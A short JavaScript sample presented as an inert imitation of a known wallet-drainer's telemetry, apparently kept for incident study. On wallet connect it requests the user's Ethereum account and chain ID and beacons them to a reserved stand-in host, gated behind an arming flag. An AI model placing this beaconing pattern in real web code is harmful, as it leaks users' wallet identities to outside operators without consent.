/* eslint-disable */
// Inert imitation of the lottie-player drainer's telemetry (incidents.md section 9): connected
// accounts and the chain are beaconed to the operators. Reserved .invalid host; never armed.
function beacon(data) {
  try { navigator.sendBeacon('https://player-cdn.example.invalid/api/log', JSON.stringify({ ...data, site: location.host })); } catch {}
}

export async function onConnect() {
  if (window.cwSampleArmed !== true || !window.ethereum) return;
  const [account] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const chainId = await window.ethereum.request({ method: 'eth_chainId' });
  beacon({ account, chainId });
}
